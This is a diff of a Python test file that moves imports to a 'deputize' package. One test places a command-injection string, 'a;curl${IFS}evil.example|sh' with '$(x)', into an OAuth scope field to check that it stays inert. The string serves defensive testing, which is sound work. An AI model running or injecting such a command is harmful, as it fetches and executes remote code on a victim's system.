@@ -13,8 +13,9 @@ import pytest
 from mcp import Client
 from mcp.shared.exceptions import MCPError
 
-from demo.client import Agent, SampleHuman, StoredToken, TokenStore
-from demo.evidence import Money
+from demo.client import Agent, SampleHuman
+from deputize import StoredToken, TokenStore
+from deputize.evidence import Money
 from tests.conftest import console_at, serving
 from tests.unit.bridge.hosts import REVISIONS, hosted
 
@@ -188,7 +189,7 @@ def test_a_scope_that_is_a_shell_command_stays_a_word() -> None:
     from types import SimpleNamespace
 
     from demo.bridge.refusals import of_refusal
-    from demo.evidence import Challenge
+    from deputize.evidence import Challenge
 
     nasty = "a;curl${IFS}evil.example|sh"
     challenge = Challenge(403, "Bearer", (("error", "insufficient_scope"), ("scope", f"{nasty} $(x)")))
